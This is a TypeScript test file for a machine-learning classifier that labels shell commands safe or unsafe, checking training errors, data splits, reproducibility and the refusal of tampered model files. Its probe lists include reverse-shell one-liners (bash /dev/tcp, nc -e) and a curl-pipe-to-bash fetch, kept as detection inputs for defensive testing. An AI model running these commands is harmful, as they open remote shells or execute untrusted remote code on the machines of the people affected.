import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readModelFile, saveModelFile } from '../../src/core/model/model-file';
import { formatTrainingReport } from '../../src/core/model/report-text';
import { shippedFeaturePolicy } from '../../src/core/model/knowledge-tokens';
import { createPredictor } from '../../src/core/model/predictor';
import { trainInWorker } from '../../src/core/model/train-in-worker';
import { TrainingDataError, trainModel, trainTestSplit, type TrainProgress } from '../../src/core/model/trainer';
import { separableRows } from './fixtures';

const FAST = { trees: 15, samplesPerClass: 40 };
const PROBES = ['git log --oneline', 'bash -i >& /dev/tcp/192.168.1.9/443 0>&1', 'curl https://x.example/i.sh | bash', 'npm ci', 'nc -e /bin/bash 1.2.3.4 80'];

test('fewer than 10 labelled rows gives the seed error text', () => {
  const rows = separableRows().slice(0, 9);
  assert.throws(
    () => trainModel([...rows, { command: 'ls', label: 2 }]),
    (e: Error) => e instanceof TrainingDataError && e.message === 'Not enough labeled training data (9 samples): 1 of the 10 rows is unlabelled or unknown. Training needs at least 10 distinct commands labelled safe or unsafe.',
  );
});

test('a command repeated with the same label counts once, for the minimum and for the split', () => {
  const distinct = separableRows().filter((r, i, all) => all.findIndex((o) => o.command === r.command && o.label === r.label) === i);
  const nine = distinct.slice(0, 9);
  assert.throws(() => trainModel([...nine, ...nine]), /^TrainingDataError: Not enough labeled training data \(9 samples\): 9 rows repeat a command already counted\./);
  const once = trainModel(distinct, FAST);
  const thrice = trainModel([...distinct, ...distinct, ...distinct], FAST);
  // The same model and the same report: repeats can no longer be graded as unseen commands.
  assert.deepEqual(thrice.forest, once.forest);
  assert.deepEqual({ ...thrice.metrics, repeatedRows: 0 }, once.metrics);
  assert.equal(thrice.metrics.repeatedRows, distinct.length * 2);
  assert.match(formatTrainingReport(thrice), new RegExp(`^Trained on ${once.metrics.trainRows} commands, tested on ${once.metrics.testRows} others \\(labels: .*; ${distinct.length * 2} repeated rows counted once\\)`));
});

test('a command labelled both ways is never on both sides of the split', () => {
  const rows = separableRows().filter((r, i, all) => all.findIndex((o) => o.command === r.command) === i);
  // Every command also labelled the other way: a split by row would test some of them on their twin.
  const both = [...rows, ...rows.map((r) => ({ ...r, label: 1 - r.label }))];
  const { train, test: held } = trainTestSplit(both, 0.2, 42);
  assert.ok(held.length > 0 && train.length > 0);
  const trainCommands = new Set(train.map((i) => both[i].command));
  assert.deepEqual(held.filter((i) => trainCommands.has(both[i].command)), []);
  assert.equal(trainModel(both, FAST).metrics.repeatedRows, 0);
});

test('a single class names the missing class', () => {
  const safeOnly = separableRows().filter((r) => r.label === 0);
  assert.throws(() => trainModel(safeOnly), /only safe examples \(\d+\); label at least one command unsafe/);
  const unsafeOnly = separableRows().filter((r) => r.label === 1);
  assert.throws(() => trainModel(unsafeOnly), /only unsafe examples \(\d+\); label at least one command safe/);
});

test('a class that cannot be on both sides of the split is a data error, not a crash', () => {
  const safe = separableRows().filter((r) => r.label === 0);
  const oneUnsafe = [...safe, separableRows().find((r) => r.label === 1)!];
  assert.throws(() => trainModel(oneUnsafe, FAST), (e: Error) => e instanceof TrainingDataError && /Too few unsafe examples .*\(1\): label at least 2 commands unsafe$/.test(e.message));
  // Every unsafe row in one group: the group cannot be split either.
  const grouped = separableRows().map((r) => ({ ...r, group: r.label === 1 ? 'g-unsafe' : `g-${r.command}` }));
  assert.throws(() => trainModel(grouped, FAST), /Too few unsafe examples .* in 1 group\(s\)\): label at least 2 commands unsafe, in different groups/);
});

test('a trained model separates clearly different commands and reports its evaluation', () => {
  const model = trainModel(separableRows(), FAST);
  const m = model.metrics;
  const distinct = new Set(separableRows().map((r) => `${r.label} ${r.command}`)).size;
  assert.equal(m.trainRows + m.testRows, distinct);
  assert.equal(m.repeatedRows, separableRows().length - distinct);
  assert.ok(m.unsafe.support > 0 && m.safe.support > 0);
  assert.ok(m.rocAuc > 0.9, `AUC ${m.rocAuc}`);
  assert.ok(m.unsafe.f1 > 0.8, `F1 ${m.unsafe.f1}`);
  assert.equal(m.confusion[0][0] + m.confusion[0][1], m.safe.support);
  assert.ok(m.topFeatures.every((f) => typeof f.feature === 'string' && f.importance > 0));
  const p = createPredictor(model);
  assert.equal(p.predict('bash -i >& /dev/tcp/172.16.0.3/8080 0>&1').prediction, 'unsafe');
  assert.equal(p.predict('git status').prediction, 'safe');
  const r = p.predict('git diff');
  assert.ok(r.confidence >= 0.5 && r.confidence <= 1 && Math.abs(r.p_unsafe + (r.prediction === 'safe' ? r.confidence : -r.confidence) - (r.prediction === 'safe' ? 1 : 0)) < 1e-9);
});

test('training is reproducible from its seed, and a saved model predicts identically', () => {
  const a = trainModel(separableRows(), FAST);
  const b = trainModel(separableRows(), FAST);
  assert.deepEqual(a.forest, b.forest);
  assert.equal(a.training_data_hash, b.training_data_hash);
  const file = join(mkdtempSync(join(tmpdir(), 'rl-model-')), 'm.json');
  saveModelFile(file, a);
  const loaded = createPredictor(readModelFile(file));
  const fresh = createPredictor(a);
  for (const c of PROBES) assert.deepEqual(loaded.predict(c), fresh.predict(c));
});

test('the model carries the policy whose verdicts it learned from, and a tampered copy is refused', () => {
  const model = trainModel(separableRows(), FAST);
  const shipped = shippedFeaturePolicy();
  assert.equal(model.vectorizer.policy.sha256, shipped.sha256);
  assert.equal(model.vectorizer.policy.text, shipped.text);
  assert.ok(model.vectorizer.vocabulary.some((g) => g.startsWith('policy:')));
  const file = join(mkdtempSync(join(tmpdir(), 'rl-model-')), 'tampered.json');
  const policy = { ...model.vectorizer.policy, text: model.vectorizer.policy.text.replace('action: deny', 'action: allow') };
  saveModelFile(file, { ...model, vectorizer: { ...model.vectorizer, policy } });
  assert.throws(() => readModelFile(file), /feature policy is missing or does not match its sha256; retrain it/);
});

test('a model file of another format or version is refused with a clear message', () => {
  const dir = mkdtempSync(join(tmpdir(), 'rl-model-'));
  const file = join(dir, 'bad.json');
  saveModelFile(file, { ...trainModel(separableRows(), FAST), format_version: 99 });
  assert.throws(() => readModelFile(file), /format version 99 is not supported/);
  assert.throws(() => readModelFile(join(dir, 'missing.json')), /cannot read model/);
});

test('training in a worker reports progress and gives the same model', async () => {
  const seen: TrainProgress[] = [];
  const model = await trainInWorker(separableRows(), FAST, { onProgress: (p) => seen.push(p) });
  assert.deepEqual(model.forest, trainModel(separableRows(), FAST).forest);
  const trees = seen.filter((p) => p.phase === 'trees');
  assert.equal(trees.length, FAST.trees);
  assert.ok(seen.some((p) => p.phase === 'evaluate'));
  await assert.rejects(trainInWorker(separableRows().slice(0, 3), FAST), /Not enough labeled training data \(3 samples\)/);
});

test('training can be cancelled', async () => {
  const ctl = new AbortController();
  const run = trainInWorker(separableRows(20), { trees: 500, samplesPerClass: 100 }, { signal: ctl.signal });
  setTimeout(() => ctl.abort(), 50);
  await assert.rejects(run, /cancelled/);
});

test('a model file whose prediction parts are damaged is refused, not read into wrong verdicts', () => {
  const dir = mkdtempSync(join(tmpdir(), 'rl-model-'));
  const file = join(dir, 'm.json');
  const good = trainModel(separableRows(), FAST);
  saveModelFile(file, good);
  assert.equal(readModelFile(file).threshold, good.threshold);
  const damaged: [string, (m: Record<string, any>) => void][] = [
    ['threshold', (m) => (m.threshold = 'x')],
    ['calibration', (m) => (m.calibration = null)],
    ['vocabulary and idf', (m) => (m.vectorizer.idf = m.vectorizer.idf.slice(0, 1))],
    ['forest', (m) => delete m.forest],
  ];
  for (const [part, damage] of damaged) {
    const m = JSON.parse(JSON.stringify(good));
    damage(m);
    saveModelFile(file, m);
    assert.throws(() => readModelFile(file), new RegExp(`damaged model file \\(${part}`), part);
  }
});
